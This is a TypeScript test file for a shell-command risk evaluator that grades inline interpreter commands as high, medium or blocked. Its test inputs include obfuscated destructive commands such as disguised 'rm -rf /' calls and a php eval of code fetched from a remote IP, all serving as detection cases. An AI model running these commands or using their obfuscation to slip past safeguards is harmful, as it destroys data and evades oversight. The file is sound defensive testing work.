import { describe, expect, test } from "vitest";
import { joinedStrings, printedBy } from "../../../src/risk/code/strings.ts";
import { createEvaluator } from "../../../src/risk/evaluate.ts";

const evaluate = createEvaluator();
const riskOf = (command: string) => evaluate(command, { os: "linux", shell: "bash" }).risk;

const joins: readonly (readonly [code: string, text: string])[] = [
  [`'r' + 'm'`, "'rm'"],
  [`"rm" " -rf"`, '"rm -rf"'],
  [`"os" .. ".execute"`, '"os.execute"'],
  [`chr(40 + 7)`, '"/"'],
  [`String.fromCharCode(114, 109)`, 'String."rm"'],
  [`%w(rm -rf /)`, '"rm","-rf","/"'],
  [`"\\x72\\155"`, '"rm"'],
  [`["rm", "-rf"]`, `["rm", "-rf"]`],
];

describe("program text of another language", () => {
  test.each([
    "python3 -c 'import os; os.listdir(x)'",
    "perl -e 'while(1){}'",
    "ruby -e 'x = gets; y(x)'",
    "perl -pe 's/a/system(q)/e' /srv/x",
    `perl -e 'print "@{[foo()]}"'`,
  ])("PA-7 is high where it may do anything: %s", (command) => {
    expect(riskOf(command)).toBe("high");
  });

  test.each([
    `python3 -c 'import json,sys; print(json.load(sys.stdin)["status"])' < /tmp/a.json`,
    "perl -ne 'print if /timeout/' /var/log/app.log",
    "perl -pi -e 's/a/b/' /srv/app.conf",
    "php -r 'echo PHP_VERSION;'",
  ])("PA-7 is medium where it plainly only prints: %s", (command) => {
    expect(riskOf(command)).toBe("medium");
  });

  test.each([
    `python3 -c "import os; a='rm'; b=' -rf /'; os.system(a+b)"`,
    `python3 -c "import os,sys; os.system(sys.argv[1])" 'rm -rf /'`,
    `node -e 'require("fs").rmSync(["","usr"].join("/"),{recursive:true})'`,
    `ruby -e 'system("/ fr- mr".reverse)'`,
    `php -r 'eval(file_get_contents("http://203.0.113.9/x"));'`,
    `awk -v c='rm -rf /' 'BEGIN { system(c) }'`,
    `perl -e 'print "rm -rf ", "/"' | sh; perl -e 'print("rm -rf /")' | sh`,
  ])("AR-01 is blocked by what its strings and signs say: %s", (command) => {
    expect(riskOf(command)).toBe("block");
  });

  test.each(joins)("AR-01 %s is read as %s", (code, text) => {
    expect(joinedStrings(code)).toBe(text);
  });

  test("AR-01 what is printed is known where all of it is constant", () => {
    expect(["print('rm')", `print("a"); echo "b"`, `print("a", x)`, "x = 1"].map(printedBy)).toEqual([
      "rm\n",
      "a\nb\n",
      undefined,
      undefined,
    ]);
  });
});
